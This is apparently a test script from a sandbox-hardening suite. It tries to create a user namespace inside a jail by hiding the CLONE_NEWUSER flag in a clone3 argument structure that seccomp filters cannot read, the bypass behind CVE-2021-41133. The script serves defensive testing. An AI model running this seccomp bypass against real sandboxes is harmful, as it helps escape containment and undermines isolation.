# row = "A6"
# boundary = "no user namespace in the jail"
# ending = "ok"
# layers = ["seccomp", "user"]
# control = "outside"
"""Hides CLONE_NEWUSER in a structure that a filter cannot read: clone3 (CVE-2021-41133)."""

import ctypes
import os
import signal

from attack import attempt, call


def new_user_namespace():
    args = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, signal.SIGCHLD)
    pid = call("clone3", ctypes.byref(args), 88)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a process in a user namespace of its own"


attempt("clone3", new_user_namespace)
